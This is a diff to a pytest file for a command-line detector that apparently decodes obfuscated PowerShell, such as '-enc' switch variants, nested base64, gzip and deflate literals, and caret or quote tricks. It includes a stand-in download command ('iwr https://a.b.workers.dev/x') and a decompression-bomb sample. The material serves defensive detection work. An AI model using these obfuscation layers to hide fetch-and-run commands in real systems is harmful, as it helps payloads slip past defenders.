@@ -2,11 +2,24 @@
 
 from __future__ import annotations
 
+import gzip
+import zlib
 from base64 import b64encode
 
 import pytest
 
-from enricher.core.commands import decoded_forms, driven, encoded, flags, headless, inline, loops, names_host, one_liner
+from enricher.core.commands import (
+    MAX_INFLATED,
+    decoded_forms,
+    driven,
+    encoded,
+    flags,
+    headless,
+    inline,
+    loops,
+    names_host,
+    one_liner,
+)
 
 
 def utf16(text: str) -> str:
@@ -17,7 +30,13 @@ FETCH = utf16("iwr https://a.b.workers.dev/x")
 
 
 @pytest.mark.parametrize(
-    "switch", ["-e", "-ec", "-en", "-enc", "-Encoded", "-EncodedCommand", "/enc", "\u2013enc", "\u2014e", "\u2015enc"]
+    "switch",
+    [
+        "-e",
+        "-ec",
+        *(f"-{'EncodedCommand'[:length]}" for length in range(2, 15)),
+        *(f"{dash}{name}" for dash in "/\u2013\u2014\u2015" for name in ("e", "ec", "enc", "encodedcommand")),
+    ],
 )
 def test_encoded_switches(switch: str) -> None:
     line = f"powershell {switch} {FETCH}"
@@ -31,6 +50,13 @@ def test_encoded_switches(switch: str) -> None:
         pytest.param(f"cmd /c powershell -enc {FETCH}", "cmd", "-EncodedCommand", id="a line that names PowerShell"),
         pytest.param(f"x.exe -enc {FETCH}", "x", None, id="another program's switch"),
         pytest.param("powershell -ep bypass", "powershell", None, id="a switch of another name"),
+        pytest.param(f"powershell -EncodedArguments {FETCH}", "powershell", None, id="a switch that begins like it"),
+        pytest.param(f"powershell -enc:{FETCH}", "powershell", "-EncodedCommand", id="a colon"),
+        pytest.param(f'powershell -enc "{FETCH}"', "powershell", "-EncodedCommand", id="in quotes"),
+        pytest.param(f"x.exe -enc {FETCH}", "powershell_ise", "-EncodedCommand", id="PowerShell under another name"),
+        pytest.param(f"p^ow^er^shell -e^nc {FETCH}", "cmd", None, id="carets are not taken out"),
+        pytest.param(f'"po""wershell" -enc {FETCH}', "cmd", None, id="nor doubled quotes"),
+        pytest.param("powershell [convert]::frombase64string($x)", "powershell", "FromBase64String", id="in any case"),
         pytest.param("powershell -e abc", "powershell", None, id="too short for base64"),
         pytest.param("node -e require('x')", "node", None, id="node's own -e"),
         pytest.param("[Convert]::FromBase64String($x)", "powershell", "FromBase64String", id="a call"),
@@ -50,6 +76,77 @@ def test_decoded_forms() -> None:
     assert decoded_forms(f"powershell -enc {utf16(chr(1) * 8)}") == (), "no text"
     assert decoded_forms("powershell -enc AAAAAAA") == (), "no whole base64"
     assert len(decoded_forms(f"powershell {f'-enc {FETCH} ' * 9}")) == 3
+
+
+HIDDEN = "iwr https://a.b.workers.dev/x"
+
+
+def literal(raw: bytes) -> str:
+    return f"[Convert]::FromBase64String('{b64encode(raw).decode()}')"
+
+
+def deflated(text: str) -> bytes:
+    packer = zlib.compressobj(wbits=-15)
+    return packer.compress(text.encode()) + packer.flush()
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        pytest.param(
+            f"powershell -enc {utf16(literal(HIDDEN.encode()))}",
+            (literal(HIDDEN.encode()), HIDDEN),
+            id="a literal in a command",
+        ),
+        pytest.param(
+            f"powershell -enc {utf16(f'powershell -enc {utf16(HIDDEN)}')}",
+            (f"powershell -enc {utf16(HIDDEN)}", HIDDEN),
+            id="two commands",
+        ),
+        pytest.param(literal(gzip.compress(HIDDEN.encode())), (HIDDEN,), id="gzip"),
+        pytest.param(literal(gzip.compress(HIDDEN.encode("utf-16-le"))), (HIDDEN,), id="gzip of UTF-16"),
+        pytest.param(literal(deflated(HIDDEN)) + " IO.Compression.DeflateStream", (HIDDEN,), id="deflate"),
+        pytest.param(literal(gzip.compress(HIDDEN.encode())[:-4]), (HIDDEN,), id="gzip without its end"),
+        pytest.param(
+            f"powershell -enc {utf16(literal(gzip.compress(HIDDEN.encode())))}",
+            (literal(gzip.compress(HIDDEN.encode())), HIDDEN),
+            id="gzip in a command",
+        ),
+        pytest.param(f'FromBase64String(\\"{b64encode(HIDDEN.encode()).decode()}\\")', (HIDDEN,), id="escaped quotes"),
+        pytest.param(f'FromBase64String(""{b64encode(HIDDEN.encode()).decode()}"")', (HIDDEN,), id="doubled quotes"),
+        pytest.param(literal(HIDDEN.encode("utf-16-le") + b"x"), (HIDDEN,), id="a torn last character"),
+        pytest.param(literal(deflated(HIDDEN)), (), id="deflate that nothing names"),
+        pytest.param(literal(gzip.compress(bytes(range(256)) * 9)), (), id="no text in it"),
+        pytest.param(literal(b"\x1f\x8b" + b"\xff" * 40), (), id="no stream behind its head"),
+    ],
+)
+def test_what_base64_hides(line: str, expected: tuple[str, ...]) -> None:
+    assert decoded_forms(line) == expected
+
+
+def test_a_third_layer_is_not_opened() -> None:
+    layers = utf16(HIDDEN)
+    for _ in range(2):
+        layers = utf16(f"powershell -enc {layers}")
+    found = decoded_forms(f"powershell -enc {layers}")
+    assert len(found) == 2
+    assert HIDDEN not in found
+
+
+def test_a_bomb_costs_no_more_than_its_limit() -> None:
+    """Fifty megabytes in each of twenty literals; all of them together may grow to one limit."""
+    bomb = literal(gzip.compress(b"curl " * 10_000_000))
+    found = decoded_forms(bomb * 20)
+    assert len(found) == 1
+    assert len(found[0]) == MAX_INFLATED
+    assert decoded_forms(f"{literal(gzip.compress(bytes(1_000_000)))} {literal(gzip.compress(HIDDEN.encode()))}") == ()
+
+
+def test_of_many_texts_the_first_are_read_the_outer_ones_before_the_inner() -> None:
+    inner = [f"inner number {n}" for n in range(9)]
+    outer = [f"outer {n} {' '.join(literal(text.encode()) for text in inner[3 * n : 3 * n + 3])}" for n in range(3)]
+    found = decoded_forms(" ".join(literal(text.encode()) for text in outer))
+    assert found == (*outer, *inner[:3])
 
 
 @pytest.mark.parametrize(
@@ -184,6 +281,11 @@ LONG = "x" * 101
 )
 def test_one_liner(line: str, *, expected: bool) -> None:
     assert one_liner(line) is expected
+
+
+def test_a_renamed_powershells_one_liner_is_one() -> None:
+    assert one_liner(f"svc.exe -enc {FETCH} {LONG}", "powershell")
+    assert not one_liner(f"svc.exe -enc {FETCH} {LONG}", "svc")
 
 
 @pytest.mark.parametrize(
